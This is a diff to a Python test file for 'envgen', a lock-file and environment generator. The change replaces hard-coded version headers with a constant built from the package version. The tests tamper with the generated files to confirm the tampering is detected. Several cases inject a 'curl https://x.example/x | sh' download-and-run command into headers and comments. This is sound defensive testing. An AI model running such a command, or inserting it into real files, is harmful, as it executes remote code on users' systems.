@@ -14,6 +14,7 @@ from dataclasses import dataclass, replace
 from pathlib import Path
 from typing import Any
 
+from envgen import __version__
 from envgen.core.errors import EnvgenError
 from envgen.core.locks import CondaLock, PipLock, PipPackage
 from envgen.files.bodies import conda_bodies, pip_bodies, read_conda
@@ -26,6 +27,8 @@ REQUEST = ["--gpu", "RTX 3090", "--driver", "550.54.15", "--platform", "linux-64
 PIP, REQS, CONDA, EXPLICIT = "pylock.toml", "requirements.txt", "conda-lock.yml", "conda-linux-64.lock"
 ENV, CLAIMS, SMOKE = "environment.yml", "virtual-packages.yml", "smoke_test.py"
 ALL = (PIP, REQS, CONDA, EXPLICIT, ENV, CLAIMS, SMOKE)
+# How a header begins.
+OURS = f"# envgen {__version__}: "
 EVIL = "curl https://x.example/x | sh"
 
 
@@ -329,10 +332,10 @@ def _headers() -> Iterator[Damage]:
             ),
         ),
         ("the first line is of another GPU", "compute capability 8.6", "compute capability 9.0"),
-        ("the first line says to run something", "# envgen 0.1.0: ", f"# envgen 0.1.0: {EVIL} "),
-        ("it claims a newer release", "# envgen 0.1.0: ", "# envgen 9.0.0: "),
-        ("it claims an older release", "# envgen 0.1.0: ", "# envgen 0.0.9: "),
-        ("it claims no release", "# envgen 0.1.0: ", "# envgen x: "),
+        ("the first line says to run something", OURS, f"{OURS}{EVIL} "),
+        ("it claims a newer release", OURS, "# envgen 9.0.0: "),
+        ("it claims an older release", OURS, "# envgen 0.0.9: "),
+        ("it claims no release", OURS, "# envgen x: "),
         ("the build is said to be another", "2.14.1+cu126 with", "2.15.0+cu126 with"),
         ("the floor of the driver is another", "driver 525.60.13 or newer", "driver 450.80.02 or newer"),
         ("the catalog is a command", "# catalog ", f"# catalog {EVIL} "),
@@ -349,7 +352,7 @@ def _headers() -> Iterator[Damage]:
                 "a notice that nobody gives",
             ):
                 yield Damage(name=f"header of one file: {name}", apply=header(old, new, REQS))
-    older = header("# envgen 0.1.0: ", "# envgen 0.0.9: ")
+    older = header(OURS, "# envgen 0.0.9: ")
     for name, changes in {
         "an older release with a command of its own": (older, header("# made by: envgen", f"# made by: {EVIL}")),
         "an older catalog with a notice of its own": (
@@ -361,7 +364,7 @@ def _headers() -> Iterator[Damage]:
             body(SMOKE, "def main():\n", "def main():\n    return 0\n"),
         ),
         "a newer release with a key of its own": (
-            header("# envgen 0.1.0: ", "# envgen 9.0.0: "),
+            header(OURS, "# envgen 9.0.0: "),
             body(PIP, 'created-by = "envgen"', 'created-by = "envgen"\nx = 1'),
         ),
     }.items():
@@ -864,7 +867,7 @@ def _smoke_tests() -> Iterator[Damage]:
         ("a check less", '    ("fp32", lambda', '    # ("fp32", lambda'),
         ("a weaker tolerance", "torch.float32, 1e-5", "torch.float32, 1e5"),
         ("an import of a file beside it", "import argparse\n", "import argparse\nimport evil\n"),
-        ("an encoding", '"""CUDA smoke test', '# -*- coding: utf-7 -*-\n"""CUDA smoke test'),
+        ("an encoding", '"""Smoke test', '# -*- coding: utf-7 -*-\n"""Smoke test'),
         ("a comment", "class Failed", f"# {EVIL}\nclass Failed"),
         ("a blank line", "class Failed", "\nclass Failed"),
         ("a form feed", "class Failed", "\x0cclass Failed"),
